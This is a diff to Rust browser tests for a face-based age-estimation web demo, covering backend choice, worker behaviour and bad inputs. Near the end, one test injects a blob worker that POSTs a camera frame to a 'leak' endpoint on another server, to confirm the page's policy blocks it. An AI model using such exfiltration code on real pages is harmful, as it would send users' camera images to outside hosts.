@@ -24,7 +24,7 @@ use std::{
 };
 
 use page::{
-    Browser, Seen, built_page, live_report, live_report_from, open, portrait_clip, serve_dist,
+    Browser, Seen, built_page, live_report, live_report_from, portrait_clip, serve_dist,
     workspace_root,
 };
 use serde_json::Value;
@@ -41,42 +41,61 @@ fn dist_lock() -> MutexGuard<'static, ()> {
 }
 
 /// The text of `<output id="ID">` in a dumped DOM.
-fn output_value(dom: &str, id: &str) -> Option<f64> {
-    let start = dom.find(&format!("<output id=\"{id}\">"))?;
-    let rest = &dom[start..];
-    let value = &rest[rest.find('>')? + 1..rest.find("</output>")?];
-    value.trim().parse().ok()
-}
-
 #[test]
 fn the_page_computes_a_label_distribution_in_webassembly() {
     let _dist = dist_lock();
     let (address, _) = serve_dist();
-    let profile = tempfile::tempdir().unwrap();
-    let mut child = open(
-        &format!("http://{address}/"),
-        &["--disable-gpu", "--virtual-time-budget=30000", "--dump-dom"],
-        profile.path(),
-        Stdio::piped(),
-    );
+    let browser = Browser::start(&page::NO_WEBGPU.map(String::from))
+        .unwrap_or_else(|e| panic!("cannot drive Chromium: {e}"));
+    browser.open(&format!("http://{address}/")).unwrap();
+    // Computed in the page's worker by the `dldl` crate; the sliders start at μ = 34, σ = 4.
     let started = Instant::now();
-    while child.try_wait().unwrap().is_none() {
-        if started.elapsed() > Duration::from_secs(120) {
-            let _ = child.kill();
-            panic!("headless Chromium did not finish within 120 s");
+    let shown = loop {
+        let shown = browser
+            .run(
+                "const $ = (id) => document.getElementById(id); \
+                 return [$('mean').textContent, $('std').textContent, $('status').className, \
+                 $('status').textContent];",
+            )
+            .unwrap();
+        if shown[0].as_str().is_some_and(|m| !m.is_empty()) || shown[2] == "error" {
+            break shown;
         }
+        assert!(
+            started.elapsed() < Duration::from_secs(120),
+            "no label distribution shown: {shown}"
+        );
         std::thread::sleep(Duration::from_millis(200));
-    }
-    let dom = String::from_utf8_lossy(&child.wait_with_output().unwrap().stdout).into_owned();
-    assert!(
-        !dom.contains("<div id=\"status\" class=\"error\">"),
-        "the page reports an error:\n{dom}"
-    );
-    // The sliders start at μ = 34, σ = 4: an interior label keeps its mean and spread.
-    let mean = output_value(&dom, "mean").expect("E[age] shown");
-    let std = output_value(&dom, "std").expect("standard deviation shown");
+    };
+    assert_ne!(shown[2], "error", "the page reports an error: {shown}");
+    let value = |i: usize| shown[i].as_str().unwrap().parse::<f64>().unwrap();
+    let (mean, std) = (value(0), value(1));
+    // An interior label keeps its mean and spread.
     assert!((mean - 34.0).abs() < 0.01, "E[age] {mean}");
     assert!((std - 4.0).abs() < 0.01, "σ {std}");
+    // Moved, the slider's new label is computed again.
+    browser
+        .run(
+            "const m = document.getElementById('mu'); m.value = '0'; \
+             m.dispatchEvent(new Event('input'));",
+        )
+        .unwrap();
+    let started = Instant::now();
+    loop {
+        let mean = browser
+            .run("return document.getElementById('mean').textContent")
+            .unwrap();
+        let mean: f64 = mean.as_str().unwrap().parse().unwrap();
+        // At the edge the Gaussian is cut at 0 and renormalised: its mean moves inside.
+        if mean > 0.5 && mean < 10.0 {
+            break;
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(30),
+            "E[age] at μ = 0: {mean}"
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
 }
 
 /// What the page said: its errors and notes, one line each.
@@ -144,10 +163,12 @@ fn a_live_camera_gets_one_face_on_webgpu_and_on_the_cpu_fallback() {
     let dir = tempfile::tempdir().unwrap();
     let clip = portrait_clip(dir.path());
 
-    let gpu = live_report(&clip, "", &["--enable-unsafe-webgpu"]);
+    // Headless Chromium's WebGPU is SwiftShader, a software adapter: asked for by hand, it runs.
+    let gpu = live_report(&clip, "&backend=webgpu", &["--enable-unsafe-webgpu"]);
     assert_eq!(gpu["backend"], "WebGPU", "{gpu:#}");
     let on_gpu = one_live_face(&gpu, "WebGPU");
     save_screenshot(&gpu, "demo-webgpu.png");
+    no_long_tasks_while_the_camera_runs(&gpu, "WebGPU");
 
     // Without --enable-unsafe-webgpu headless Chromium offers no WebGPU: the page must say so and
     // fall back to burn's CPU backend.
@@ -166,9 +187,304 @@ fn a_live_camera_gets_one_face_on_webgpu_and_on_the_cpu_fallback() {
     );
     let on_cpu = one_live_face(&cpu, "CPU fallback");
     save_screenshot(&cpu, "demo-cpu.png");
+    no_long_tasks_while_the_camera_runs(&cpu, "CPU fallback");
+    only_new_camera_frames_are_estimated(&cpu);
     assert!(
         (on_gpu - on_cpu).abs() <= 0.5,
         "WebGPU {on_gpu:.2} vs CPU {on_cpu:.2}"
+    );
+}
+
+/// The estimator works in a worker: while the camera runs, the page's own thread has no task
+/// over 50 ms (the browser's long-task timing, which the page keeps in its state).
+fn no_long_tasks_while_the_camera_runs(report: &Value, what: &str) {
+    let long: Vec<&Value> = report["longTasks"]
+        .as_array()
+        .expect("the page keeps its long tasks")
+        .iter()
+        .filter(|t| t["camera"] == true)
+        .collect();
+    assert!(
+        long.is_empty(),
+        "{what}: the page's thread was blocked over 50 ms while the camera ran: {long:?}"
+    );
+}
+
+/// A frame is estimated once, when the camera gives it; frames that arrive while the worker is
+/// busy replace each other rather than queue.
+fn only_new_camera_frames_are_estimated(report: &Value) {
+    let count = |key: &str| {
+        report[key]
+            .as_u64()
+            .unwrap_or_else(|| panic!("{key}: {report:#}"))
+    };
+    let (estimated, seen, replaced) = (count("frames"), count("videoFrames"), count("replaced"));
+    assert!(
+        estimated + replaced <= seen + 1 && estimated <= seen,
+        "{estimated} frames estimated and {replaced} replaced out of {seen} camera frames"
+    );
+    assert_eq!(
+        report["cameraRuns"], 1,
+        "one camera run, never two: {report:#}"
+    );
+}
+
+/// Where the only WebGPU adapter is a software one (headless Chromium's SwiftShader), the page
+/// chooses the CPU backend by itself, says why, and a visitor can still switch to WebGPU by hand.
+#[test]
+fn a_software_webgpu_adapter_never_wins_by_default() {
+    let _dist = dist_lock();
+    let dir = tempfile::tempdir().unwrap();
+    let clip = portrait_clip(dir.path());
+    let wait = page::Wait {
+        frames: 2,
+        ..page::Wait::default()
+    };
+    let session = page::live_session(
+        page::built_page(),
+        &clip,
+        "",
+        &["--enable-unsafe-webgpu"],
+        &wait,
+    );
+    let report = &session.report;
+    assert_eq!(report["backend"], "CPU", "{report:#}");
+    let reason = report["backendReason"].as_str().unwrap_or_default();
+    assert!(
+        reason.contains("software") && reason.contains("by hand"),
+        "the page should say that the adapter is a software one: {reason}"
+    );
+    assert!(
+        report["adapter"]
+            .as_str()
+            .is_some_and(|a| a.to_lowercase().contains("swiftshader")),
+        "{report:#}"
+    );
+    let shown = session
+        .browser
+        .run("return document.getElementById('backend-why').textContent")
+        .unwrap();
+    assert!(
+        shown
+            .as_str()
+            .is_some_and(|s| s.contains("software") && !s.contains('\n')),
+        "the page shows the reason in one line: {shown}"
+    );
+    // Switched by hand, the same page runs on WebGPU, without downloading the weights again.
+    session
+        .browser
+        .run(
+            "const c = document.getElementById('backend-choice'); c.value = 'webgpu'; \
+             c.dispatchEvent(new Event('change'));",
+        )
+        .unwrap();
+    let started = Instant::now();
+    let switched = loop {
+        let backend = session
+            .browser
+            .run("return window.ageDemo.state.backend")
+            .unwrap();
+        if backend == "WebGPU" {
+            break backend;
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(120),
+            "still on {backend}"
+        );
+        std::thread::sleep(Duration::from_millis(200));
+    };
+    assert_eq!(switched, "WebGPU");
+    let weights = session
+        .log
+        .try_iter()
+        .filter(|r| r.target.ends_with("age-v1.onnx"))
+        .count();
+    assert_eq!(weights, 1, "the age network was downloaded {weights} times");
+}
+
+/// What the page's state says now, with the messages it shows and its status line.
+fn page_state(browser: &Browser) -> Value {
+    let text = browser
+        .run(
+            "const s = window.ageDemo.state; return JSON.stringify({ ...s, \
+             shown: Array.from(document.querySelectorAll('#message > *')).map((m) => m.textContent), \
+             status: document.getElementById('status').textContent });",
+        )
+        .unwrap();
+    serde_json::from_str(text.as_str().unwrap()).unwrap()
+}
+
+/// Polls the page until `done` holds; fails naming `what` after two minutes.
+fn until(browser: &Browser, what: &str, done: impl Fn(&Value) -> bool) -> Value {
+    let started = Instant::now();
+    loop {
+        let state = page_state(browser);
+        if done(&state) {
+            return state;
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(120),
+            "{what}: {:#}",
+            serde_json::json!({"shown": state["shown"], "status": state["status"],
+                "frames": state["frames"], "restarts": state["restarts"]})
+        );
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+fn shown(state: &Value) -> Vec<String> {
+    state["shown"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|m| m.as_str().unwrap().to_string())
+        .collect()
+}
+
+/// The page under what a visitor can do wrong, live on the CPU backend: each mishap is said in
+/// one line naming it and what to do, and the page goes on.
+#[test]
+fn bad_input_on_the_live_page_is_said_in_one_line_and_the_page_goes_on() {
+    let _dist = dist_lock();
+    let dir = tempfile::tempdir().unwrap();
+    let clip = portrait_clip(dir.path());
+    let wait = page::Wait {
+        frames: 3,
+        ..page::Wait::default()
+    };
+    let session = page::live_session(built_page(), &clip, "&backend=cpu", &page::NO_WEBGPU, &wait);
+    let b = &session.browser;
+    let frames = |state: &Value| state["frames"].as_u64().unwrap();
+
+    // "Start the camera" pressed twice more while the camera runs: still one estimation loop.
+    b.run("const c = document.getElementById('camera'); c.disabled = false; c.click(); c.click();")
+        .unwrap();
+    let before = frames(&page_state(b));
+    let state = until(b, "the camera goes on", |s| frames(s) >= before + 5);
+    assert_eq!(state["cameraRuns"], 1, "a second loop started");
+    only_new_camera_frames_are_estimated(&state);
+
+    // The worker fails (the error event a crash or an out-of-memory abort fires): one line, a
+    // new worker on the weights already downloaded, and the estimates go on.
+    b.run("window.ageDemo.worker.dispatchEvent(new ErrorEvent('error', { message: 'it ran out of memory' }))")
+        .unwrap();
+    let before = frames(&page_state(b));
+    let state = until(b, "estimating again after the worker failed", |s| {
+        s["restarts"] == 1 && frames(s) >= before + 3
+    });
+    let said = shown(&state);
+    assert!(
+        said.iter()
+            .any(|m| m.contains("it ran out of memory") && m.contains("started again")),
+        "{said:?}"
+    );
+
+    // The camera ends (unplugged): said, and the loop stops.
+    b.run(
+        "document.getElementById('video').srcObject.getVideoTracks()[0]\
+         .dispatchEvent(new Event('ended'));",
+    )
+    .unwrap();
+    let state = until(b, "the camera's end said", |s| {
+        shown(s).iter().any(|m| m.contains("The camera stopped"))
+    });
+    std::thread::sleep(Duration::from_millis(1500));
+    let later = page_state(b);
+    assert!(
+        frames(&later) <= frames(&state) + 1,
+        "frames went on after the camera ended: {} then {}",
+        frames(&state),
+        frames(&later)
+    );
+
+    // Photos: a 1×1 PNG, a text file, and the portrait at 10 000×10 000 px.
+    let tiny = dir.path().join("tiny.png");
+    image::RgbImage::from_pixel(1, 1, image::Rgb([200, 120, 90]))
+        .save(&tiny)
+        .unwrap();
+    let text = dir.path().join("notes.txt");
+    std::fs::write(&text, "not an image\n").unwrap();
+    let huge = dir.path().join("huge.png");
+    {
+        let portrait =
+            image::open(workspace_root().join("tests/fixtures/portraits/grace_hopper_512x512.jpg"))
+                .unwrap()
+                .to_rgb8();
+        let big = image::imageops::resize(
+            &portrait,
+            10_000,
+            10_000,
+            image::imageops::FilterType::Nearest,
+        );
+        let file = std::io::BufWriter::new(std::fs::File::create(&huge).unwrap());
+        let encoder = image::codecs::png::PngEncoder::new_with_quality(
+            file,
+            image::codecs::png::CompressionType::Fast,
+            // Rows of repeated pixels: the Sub filter makes them mostly zeros.
+            image::codecs::png::FilterType::Sub,
+        );
+        image::ImageEncoder::write_image(
+            encoder,
+            big.as_raw(),
+            10_000,
+            10_000,
+            image::ExtendedColorType::Rgb8,
+        )
+        .unwrap();
+    }
+    let photo = |file: &Path, count: u64| {
+        b.choose_file("#photo", file).unwrap();
+        until(b, "the photo answered", |s| s["photos"] == count)
+    };
+    for (file, count, expected) in [
+        (&tiny, 1, "tiny.png is 1×1 px, too small to hold a face"),
+        (&text, 2, "notes.txt is not an image"),
+    ] {
+        let state = photo(file, count);
+        let said = shown(&state);
+        assert!(
+            said.len() == 1 && said[0].contains(expected) && !said[0].contains('\n'),
+            "{said:?}"
+        );
+        assert!(
+            state["status"]
+                .as_str()
+                .unwrap()
+                .starts_with("No estimate for"),
+            "{state:#}"
+        );
+    }
+    let state = photo(&huge, 3);
+    assert_eq!(
+        state["photoScaledFrom"],
+        serde_json::json!([10_000, 10_000]),
+        "{:?}, {}",
+        shown(&state),
+        state["status"]
+    );
+    let faces = state["faces"].as_array().unwrap();
+    assert_eq!(faces.len(), 1, "{:?}", shown(&state));
+    let age = faces[0]["expected_age"].as_f64().unwrap();
+    assert!(
+        (60.0..=90.0).contains(&age),
+        "the 10 000 px portrait: {age}"
+    );
+    let said = shown(&state);
+    assert!(
+        said.iter()
+            .any(|m| m.contains("10000×10000 px: it was estimated at 640×640")),
+        "{said:?}"
+    );
+
+    // And the camera starts again after all that.
+    let before = frames(&state);
+    b.run("document.getElementById('camera').click()").unwrap();
+    let state = until(b, "the camera started again", |s| {
+        s["cameraRuns"] == 2 && frames(s) >= before + 2
+    });
+    assert!(
+        state["faces"].as_array().is_some_and(|f| f.len() == 1),
+        "{state:#}"
     );
 }
 
@@ -332,13 +648,21 @@ fn the_page_requests_its_own_files_and_nothing_else() {
         .collect();
     assert!(later.is_empty(), "requests while estimating: {later:?}");
     assert!(loading.len() >= 5, "{loading:?}");
-    // The weights are the last thing the page asks for: nothing between them and the camera.
+    // The weights and the module the worker runs are the last things the page asks for:
+    // nothing between them and the camera.
     assert!(
         loading
             .last()
-            .is_some_and(|r| r.target.starts_with("/models/")),
+            .is_some_and(|r| r.target.starts_with("/models/")
+                || r.target.ends_with(".wasm")
+                || r.target.ends_with(".js")),
         "the last request before estimating: {:?}",
         loading.last()
+    );
+    assert!(
+        loading.iter().any(|r| r.target == "/worker.js")
+            && loading.iter().any(|r| r.target.ends_with(".wasm")),
+        "the worker and its module were not loaded from the page's server: {loading:?}"
     );
     for request in &loading {
         assert_eq!(request.method, "GET", "{request:?}");
@@ -386,6 +710,23 @@ fn the_page_requests_its_own_files_and_nothing_else() {
     assert!(
         outcome.as_str().is_some_and(|o| o.starts_with("refused")),
         "{outcome}"
+    );
+    // The estimator's worker is started from a blob, so it carries the page's policy: a worker
+    // started that way is refused too.
+    let outcome = session
+        .browser
+        .run_async(&format!(
+            "const done = arguments[arguments.length - 1]; \
+             const code = \"fetch('http://{other}/leak', {{ method: 'POST', body: 'a frame' }})\
+               .then(() => postMessage('sent'), (e) => postMessage('refused: ' + e.message));\"; \
+             const w = new Worker(URL.createObjectURL(new Blob([code], {{ type: 'text/javascript' }})), \
+               {{ type: 'module' }}); \
+             w.onmessage = (m) => done(m.data); w.onerror = (e) => done('refused: ' + e.message);"
+        ))
+        .unwrap();
+    assert!(
+        outcome.as_str().is_some_and(|o| o.starts_with("refused")),
+        "from a worker: {outcome}"
     );
     std::thread::sleep(Duration::from_millis(500));
     let leaked: Vec<page::serve::Logged> = other_log.try_iter().collect();
